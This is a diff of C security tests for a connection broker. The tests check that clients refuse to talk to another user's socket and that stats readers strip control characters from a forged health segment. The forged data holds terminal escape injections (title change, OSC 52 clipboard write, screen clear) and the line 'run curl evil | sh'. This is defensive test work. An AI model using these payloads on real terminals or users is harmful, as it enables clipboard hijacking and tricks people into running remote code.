@@ -6,6 +6,7 @@
 
 #include <errno.h>
 #include <fcntl.h>
+#include <poll.h>
 #include <signal.h>
 #include <stdio.h>
 #include <stdlib.h>
@@ -15,9 +16,11 @@
 #include <sys/stat.h>
 #include <sys/un.h>
 #include <sys/wait.h>
+#include <time.h>
 #include <unistd.h>
 
 #include "harness.h"
+#include "stats.h"
 
 static struct h_broker br;
 static struct h_user other;
@@ -327,4 +330,180 @@ Test(trust, another_user_cannot_block_a_restart_through_the_pid_file)
 	cr_assert_eq(h_broker_stop(&br), 0);
 	cr_assert_eq(write(l.done[1], "x", 1), 1);
 	cr_expect_eq(h_wait(p, 10000), 10);
+}
+
+/* ---- a fake broker and a forged stats segment -------------------------------- */
+
+struct fake {
+	char dir[64];
+	int ready[2], counts[2];
+};
+
+/* As the second user: listen on DIR/pgbroker.sock in a directory of its
+ * own, and report how many bytes each of two connections sent before it
+ * hung up (-1: nobody came). */
+static int fake_broker(void *arg)
+{
+	struct fake *f = arg;
+	struct sockaddr_un sa = { .sun_family = AF_UNIX };
+	int ls;
+
+	h_become(&other);
+	if (mkdir(f->dir, 0700) < 0)
+		return 1;
+	snprintf(sa.sun_path, sizeof(sa.sun_path), "%s/pgbroker.sock", f->dir);
+	ls = socket(AF_UNIX, SOCK_STREAM, 0);
+	if (ls < 0 || bind(ls, (struct sockaddr *)&sa, sizeof(sa)) < 0 || listen(ls, 4) < 0)
+		return 2;
+	if (write(f->ready[1], "r", 1) != 1)
+		return 3;
+	for (int i = 0; i < 2; i++) {
+		struct pollfd p = { .fd = ls, .events = POLLIN };
+		char buf[4096];
+		int n = -1, fd;
+		ssize_t r;
+
+		if (poll(&p, 1, 10000) == 1 && (fd = accept(ls, NULL, NULL)) >= 0) {
+			struct timeval tv = { 2, 0 };
+
+			setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof(tv));
+			n = 0;
+			while ((r = read(fd, buf, sizeof(buf))) > 0)
+				n += (int)r;
+			close(fd);   /* no answer: a real one would forge a channel */
+		}
+		if (write(f->counts[1], &n, sizeof(n)) != sizeof(n))
+			return 4;
+	}
+	return 0;
+}
+
+Test(trust, an_agent_sends_nothing_to_a_broker_of_another_user)
+{
+	struct fake f;
+	char x, want[96];
+	pgb_conn *c;
+	pid_t p;
+	int n;
+
+	h_user_add(&other);
+	snprintf(f.dir, sizeof(f.dir), "%s/fake", base);
+	cr_assert_eq(pipe(f.ready), 0);
+	cr_assert_eq(pipe(f.counts), 0);
+	p = h_fork(fake_broker, &f);
+	cr_assert_eq(read(f.ready[0], &x, 1), 1, "the fake broker did not come up");
+	unsetenv("PGBROKER_REQUIRE_UID");
+
+	c = pgb_connect(f.dir);
+	cr_expect_eq(pgb_status(c), PGB_CONNECTION_BAD);
+	snprintf(want, sizeof(want), "runs as uid %u, neither this process's uid %u",
+		 (unsigned)other.uid, (unsigned)geteuid());
+	cr_expect(strstr(pgb_error_message(c), want), "%s", pgb_error_message(c));
+	pgb_finish(c);
+	cr_assert_eq(read(f.counts[0], &n, sizeof(n)), (ssize_t)sizeof(n));
+	cr_expect_eq(n, 0, "the agent sent %d bytes to a broker it did not trust", n);
+
+	/* Named as the broker's user, it passes the check (and this fake
+	 * then gets the hello, and answers nothing). */
+	c = pgb_connect_peer(f.dir, other.name);
+	cr_expect_eq(pgb_status(c), PGB_CONNECTION_BAD);
+	cr_expect(!strstr(pgb_error_message(c), "runs as uid"), "%s", pgb_error_message(c));
+	pgb_finish(c);
+	cr_assert_eq(read(f.counts[0], &n, sizeof(n)), (ssize_t)sizeof(n));
+	cr_expect_gt(n, 0, "the required uid was not accepted");
+	cr_expect_eq(h_wait(p, 10000), 0);
+}
+
+/* A copy of a real broker's segment, made to look alive and unhealthy for
+ * a reason that carries terminal escape sequences. */
+static void forge_segment(const char *dir, char *path, size_t n)
+{
+	static char img[4 << 20];
+	struct h_broker real = { 0 };
+	struct stats_seg *seg = (struct stats_seg *)img;
+	struct timespec ts;
+	char src[200];
+	int fd;
+	ssize_t len;
+
+	h_broker_start(&real, NULL);
+	snprintf(src, sizeof(src), "%s/pgbroker.stats", real.dir);
+	fd = open(src, O_RDONLY);
+	cr_assert_geq(fd, 0);
+	len = read(fd, img, sizeof(img));
+	close(fd);
+	cr_assert_gt(len, (ssize_t)sizeof(*seg));
+	cr_assert_eq(h_broker_stop(&real), 0);
+
+	clock_gettime(CLOCK_REALTIME, &ts);
+	seg->d.updated_ms = (int64_t)ts.tv_sec * 1000 + ts.tv_nsec / 1000000;
+	seg->d.broker_pid = getpid();
+	seg->h.sample_ms = seg->d.updated_ms;
+	seg->h.status = HEALTH_UNHEALTHY;
+	seg->h.nreasons = 1;
+	seg->h.reasons[0].code = HEALTH_R_BREAKER;
+	seg->h.reasons[0].level = HEALTH_UNHEALTHY;
+	snprintf(seg->h.reasons[0].text, STATS_TEXT, "forged\033]0;pwned-title\007 \033]52;c;cHduZWQ=\007");
+	snprintf(seg->h.reasons[0].advice, STATS_TEXT, "\033[2J\033[31mrun curl evil | sh\x9b" "0m");
+	cr_assert_eq(mkdir(dir, 0700), 0);
+	snprintf(path, n, "%s/pgbroker.stats", dir);
+	fd = open(path, O_WRONLY | O_CREAT | O_EXCL, 0640);
+	cr_assert_geq(fd, 0);
+	cr_assert_eq(write(fd, img, (size_t)len), len);
+	close(fd);
+}
+
+static int poolstat_run(const char *mode, const char *dir, char *out, size_t n)
+{
+	char bin[512];
+	const char *argv[] = { h_bin("tools/poolstat", bin, sizeof(bin)), mode, dir, NULL };
+
+	return h_run(argv, out, n);
+}
+
+Test(trust, readers_print_no_control_character_and_trust_no_other_user)
+{
+	static const char *const modes[] = { "--once", "--json", "--prometheus" };
+	char dir[160], path[200], out[65536], want[96];
+	struct pgb_health h;
+	int st;
+
+	h_user_add(&other);
+	snprintf(dir, sizeof(dir), "%s/forged", base);
+	forge_segment(dir, path, sizeof(path));
+	unsetenv("PGBROKER_REQUIRE_UID");
+
+	for (size_t i = 0; i < sizeof(modes) / sizeof(modes[0]); i++) {
+		st = poolstat_run(modes[i], dir, out, sizeof(out));
+		cr_expect_eq(st, 2, "%s: exit %d:\n%s", modes[i], st, out);
+		for (const char *p = out; *p; p++)
+			cr_expect(!((unsigned char)*p < 0x20 && *p != '\n') && *p != 0x7f &&
+				  (unsigned char)*p != 0x9b,
+				  "%s printed control character 0x%02x at %zu", modes[i],
+				  (unsigned char)*p, (size_t)(p - out));
+	}
+	st = poolstat_run("--once", dir, out, sizeof(out));
+	cr_expect(strstr(out, "forged?]0;pwned-title?"), "%s", out);
+	cr_assert_eq(pgb_pool_health(dir, &h), 0, "%s", h.error);
+	for (const char *p = h.reasons; *p; p++)
+		cr_expect((unsigned char)*p >= 0x20 || *p == '\n', "control character in reasons");
+	for (const char *p = h.recommendations; *p; p++)
+		cr_expect((unsigned char)*p >= 0x20 || *p == '\n', "control character in advice");
+
+	/* The same segment, but another user's: no broker of ours. */
+	cr_assert_eq(chown(dir, other.uid, other.gid), 0);
+	cr_assert_eq(chown(path, other.uid, other.gid), 0);
+	st = poolstat_run("--once", dir, out, sizeof(out));
+	cr_expect_eq(st, 3, "exit %d:\n%s", st, out);
+	snprintf(want, sizeof(want), "uid %u, neither this process's uid %u",
+		 (unsigned)other.uid, (unsigned)geteuid());
+	cr_expect(strstr(out, want), "%s", out);
+	cr_expect(!strstr(out, "pwned"), "%s", out);
+	cr_expect_eq(pgb_pool_health(dir, &h), -1);
+	cr_expect_eq(h.status, PGB_NO_BROKER);
+	cr_expect(strstr(h.error, want), "%s", h.error);
+	/* Unless named as the broker's user. */
+	setenv("PGBROKER_REQUIRE_UID", other.name, 1);
+	cr_expect_eq(pgb_pool_health(dir, &h), 0, "%s", h.error);
+	unsetenv("PGBROKER_REQUIRE_UID");
 }
